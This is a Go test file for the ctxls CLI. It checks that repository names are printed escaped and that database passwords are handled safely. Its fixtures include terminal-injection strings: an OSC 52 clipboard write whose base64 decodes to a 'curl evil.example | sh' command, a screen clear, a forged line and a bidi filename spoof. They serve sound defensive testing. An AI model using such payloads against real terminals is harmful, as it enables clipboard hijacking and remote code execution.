package cli

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/ctxls/ctxls/internal/pgstore"
	"github.com/ctxls/ctxls/internal/pgstore/pgtest"
)

// TestStoreReposPrintable: `ctxls store repos` prints a repository's
// name that ctxls would not write (a row put into the store by other
// means) quoted and escaped, so that no terminal escape sequence (a
// clipboard write, a screen clear, a forged line) reaches the terminal;
// the names ctxls writes are printed as they are.
func TestStoreReposPrintable(t *testing.T) {
	url := pgtest.Start(t).NewDatabase(t, "names")
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	st, err := pgstore.Open(ctx, url) // creates the tables
	if err != nil {
		t.Fatal(err)
	}
	st.Close()
	c, err := pgx.Connect(ctx, url)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close(ctx)
	evil := []string{
		"org/clip\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
		"org/clear\x1b[2J\x1b[H",
		"org/forged\tgeneration 9\t1 files\t0.0 MB\t2026-01-01T00:00:00Z\norg/real",
		"org/bidi\u202etxt.exe",
		"org/ok",
	}
	for _, name := range evil {
		if _, err := c.Exec(ctx, "INSERT INTO ctxls_repos (name, generation) VALUES ($1, 1)", name); err != nil {
			t.Fatal(err)
		}
		if _, err := c.Exec(ctx, "INSERT INTO ctxls_generations (repo, id, manifest, files, bytes) VALUES ($1, 1, '\\x00', 1, 1)", name); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv(pgstore.EnvStoreFile, "")
	t.Setenv(pgstore.EnvStore, url)
	out, stderr, code := ctxls(t, "", "store", "repos")
	if code != 0 {
		t.Fatalf("store repos: exit %d: %s", code, stderr)
	}
	if strings.ContainsAny(out, "\x1b\x07\r\u202e") {
		t.Errorf("store repos prints a control character:\n%q", out)
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(lines) != len(evil) {
		t.Errorf("store repos prints %d lines for %d repositories:\n%s", len(lines), len(evil), out)
	}
	for _, want := range []string{`"org/clip\x1b]52;c;`, `"org/clear\x1b[2J\x1b[H"`, `\norg/real"`, `"org/bidi\u202etxt.exe"`, "\norg/ok\tgeneration 1"} {
		if !strings.Contains(out, want) {
			t.Errorf("store repos: no %q in\n%s", want, out)
		}
	}
}

// TestStoreCredentialsCLI: the CLI's store commands read the connection
// string from --store-file, $CTXLS_STORE_FILE or $CTXLS_STORE when no
// --store gives it (for index and assemble: with --repo); a store file
// others may read is refused as bad usage; a password given in --store
// draws a warning; no message says a password.
func TestStoreCredentialsCLI(t *testing.T) {
	srv := pgtest.Start(t)
	srv.NewDatabase(t, "creds")
	const password = "cli-Secret_pw-77"
	url := srv.PasswordRole(t, "app", password, "creds")
	withPW := strings.Replace(url, "app@", "app:"+password+"@", 1)
	dir := t.TempDir()
	file := filepath.Join(dir, "store")
	if err := os.WriteFile(file, []byte(withPW+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	loose := filepath.Join(dir, "loose")
	if err := os.WriteFile(loose, []byte(withPW), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(loose, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", t.TempDir()) // no ~/.pgpass
	t.Setenv("PGPASSWORD", "")
	t.Setenv("PGPASSFILE", "")
	t.Setenv(pgstore.EnvStoreFile, "")
	t.Setenv(pgstore.EnvStore, "")
	run := func(want int, args ...string) string {
		t.Helper()
		out, stderr, code := ctxls(t, "", args...)
		if code != want {
			t.Errorf("%v: exit %d, want %d: %s%s", args, code, want, out, stderr)
		}
		if strings.Contains(out+stderr, password) {
			t.Errorf("%v: the password is in the output:\n%s%s", args, out, stderr)
		}
		return stderr
	}
	ws := workspace(t)
	run(0, "index", "--root", ws, "--cache-dir", t.TempDir(), "--store-file", file, "--repo", "org/shop")
	run(0, "store", "repos", "--store-file", file)
	t.Setenv(pgstore.EnvStoreFile, file)
	run(0, "store", "repos")
	run(0, "assemble", "--repo", "org/shop", "--cache-dir", t.TempDir(), "--query", "tax")
	t.Setenv(pgstore.EnvStoreFile, "")
	t.Setenv(pgstore.EnvStore, withPW)
	run(0, "store", "token", "--name", "bot", "--repos", "org/shop")
	run(0, "index", "--root", ws, "--cache-dir", t.TempDir(), "--repo", "org/shop")
	if stderr := run(2, "store", "repos", "--store-file", loose); !strings.Contains(stderr, "chmod 600") {
		t.Errorf("a store file others may read: %s", stderr)
	}
	t.Setenv(pgstore.EnvStore, "")
	if stderr := run(0, "store", "repos", "--store", withPW); !strings.Contains(stderr, "warning: --store holds a password") {
		t.Errorf("a password in --store: no warning: %s", stderr)
	}
	if stderr := run(0, "store", "repos", "--store-file", file); strings.Contains(stderr, "warning") {
		t.Errorf("--store-file: a warning: %s", stderr)
	}
	// A wrong password, in each form: the server refuses, no message says it.
	wrong := "wrong-" + password
	for _, dsn := range []string{
		strings.Replace(url, "app@", "app:"+wrong+"@", 1),
		url + "&password=" + wrong,
		fmt.Sprintf("host=127.0.0.1 port=%d dbname=creds user=app sslmode=disable password='%s'", srv.Port, wrong),
	} {
		t.Setenv(pgstore.EnvStore, dsn)
		if stderr := run(1, "store", "repos"); !strings.Contains(stderr, "$CTXLS_STORE") || !strings.Contains(stderr, "password authentication failed") {
			t.Errorf("a wrong password: %s", stderr)
		}
	}
}
